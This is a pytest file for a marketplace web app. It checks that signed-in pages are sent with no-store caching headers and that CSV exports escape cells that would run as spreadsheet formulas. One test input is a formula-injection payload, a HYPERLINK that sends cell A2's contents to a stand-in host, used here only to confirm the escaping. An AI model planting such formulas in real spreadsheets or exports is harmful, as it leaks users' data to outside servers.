"""Pages and files with someone's data are never kept by a browser or proxy (shared phones:
the back button after signing out must not show them); every CSV cell that a spreadsheet
would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from marketplace.web import FORMULA_STARTS, csv_text
from tests.conftest import signed_in_client


@pytest.mark.parametrize(
    ("role", "path"),
    [
        ("producer", "/"),
        ("producer", "/mis-datos"),
        ("technician", "/productores"),
        ("lender", "/credito/cartera"),
        ("lender", "/credito/grupos"),
        ("buyer", "/compras/embarques"),
        ("admin", "/admin/usuarios"),
        ("admin", "/admin/auditoria"),
    ],
)
def test_signed_in_pages_are_not_stored(app, make_user, role, path):
    response = signed_in_client(app, make_user(role)).get(path)
    assert response.status_code == 200, path
    assert "no-store" in response.headers["Cache-Control"]
    assert "private" in response.headers["Cache-Control"]


def test_public_pages_and_static_files_keep_their_caching(app, make_user):
    anonymous = app.test_client()
    assert "no-store" not in anonymous.get("/").headers.get("Cache-Control", "")
    signed_in = signed_in_client(app, make_user("producer"))
    static = signed_in.get("/static/minka.css")
    static.close()
    assert static.status_code == 200
    assert "no-store" not in static.headers.get("Cache-Control", "")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_no_csv_cell_starts_like_a_formula(start):
    text = csv_text([["Nombre", "Monto"], [f'{start}HYPERLINK("http://x.example"&A2)', 12]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0].startswith("'" + start) and rows[1][1] == "12"
